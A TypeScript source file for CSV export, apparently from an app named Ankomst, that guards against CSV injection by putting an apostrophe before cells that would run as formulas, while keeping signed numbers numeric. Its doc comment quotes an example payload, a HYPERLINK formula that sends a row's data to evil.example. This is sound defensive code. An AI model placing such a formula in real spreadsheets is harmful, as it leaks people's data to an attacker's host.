import { stringify } from "csv-stringify/sync";
import type { TLocale } from "@/lib/i18n/routing";

/** Excel reads the list separator of the user's region: a semicolon where the decimal mark is a comma. */
const CSV_DELIMITER: Record<TLocale, string> = { da: ";", de: ";", en: "," };

/** What a spreadsheet runs as a formula when a cell begins with it (OWASP: CSV injection), full-width forms included. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A signed number as the dashboard writes one ("+14%", "-50 %", "-1.234,5"): a spreadsheet reads it as a number, never as a formula. */
const SIGNED_NUMBER = /^[+-]\d[\d.,\u00a0\u202f ]*%?$/;

/** A text cell as it may go into a spreadsheet: one that would run as a formula gets a leading apostrophe. */
export function neutralisedCell(value: string): string {
  return FORMULA_START.test(value) && !SIGNED_NUMBER.test(value) ? `'${value}` : value;
}

/**
 * Rows as CSV for a spreadsheet: UTF-8 with a byte order mark, so Excel shows æ, ø and å as they are.
 * Every CSV Ankomst writes goes through here. A text cell that a spreadsheet would run as a formula
 * (beginning with =, +, -, @, a tab or a carriage return, or their full-width forms) gets a leading
 * apostrophe, as OWASP's CSV injection guidance asks: a staff member named
 * `=HYPERLINK("http://evil.example/?leak="&A2)` reads as that text, not as a link that leaks the row.
 * Numbers stay numbers, and so does a signed number written as text ("+14%", a change on the
 * dashboard): csv-stringify's own `escape_formulas` would turn it into text with an apostrophe.
 */
export function spreadsheetCsv(rows: readonly (readonly (string | number)[])[], locale: TLocale): string {
  return stringify(rows as (string | number)[][], {
    bom: true,
    delimiter: CSV_DELIMITER[locale],
    record_delimiter: "windows",
    cast: { string: neutralisedCell },
  });
}
